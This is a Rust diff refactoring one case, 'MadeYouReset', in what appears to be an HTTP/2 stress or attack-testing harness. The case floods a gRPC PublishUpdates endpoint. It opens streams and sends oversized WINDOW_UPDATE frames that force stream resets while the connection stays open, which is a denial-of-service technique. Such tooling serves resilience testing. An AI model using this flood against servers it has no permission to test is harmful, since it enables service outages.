@@ -3,7 +3,7 @@
 use super::hold_floods;
 use crate::attacker::Attacker;
 use crate::case::{Attack, Budgets, Case};
-use crate::frames::{END_HEADERS, HEADERS, WINDOW_UPDATE, call_headers, frame};
+use crate::frames::{END_HEADERS, HEADERS, WINDOW_UPDATE, frame};
 use crate::link::LIVESTREAMS;
 
 pub(super) struct MadeYouReset;
@@ -23,11 +23,15 @@ impl Case for MadeYouReset {
     }
 
     fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
-        Box::pin(hold_floods(attacker, &[], |out, number| {
-            let stream = 2 * number + 1;
-            frame(out, HEADERS, END_HEADERS, stream, &call_headers(&format!("{LIVESTREAMS}PublishUpdates")));
-            // More than a window may be: an error of the stream, not of the connection.
-            frame(out, WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
-        }))
+        let headers = attacker.call_headers(&format!("{LIVESTREAMS}PublishUpdates"));
+        Box::pin(async move {
+            hold_floods(attacker, &[], |out, number| {
+                let stream = 2 * number + 1;
+                frame(out, HEADERS, END_HEADERS, stream, &headers);
+                // More than a window may be: an error of the stream, not of the connection.
+                frame(out, WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]);
+            })
+            .await
+        })
     }
 }
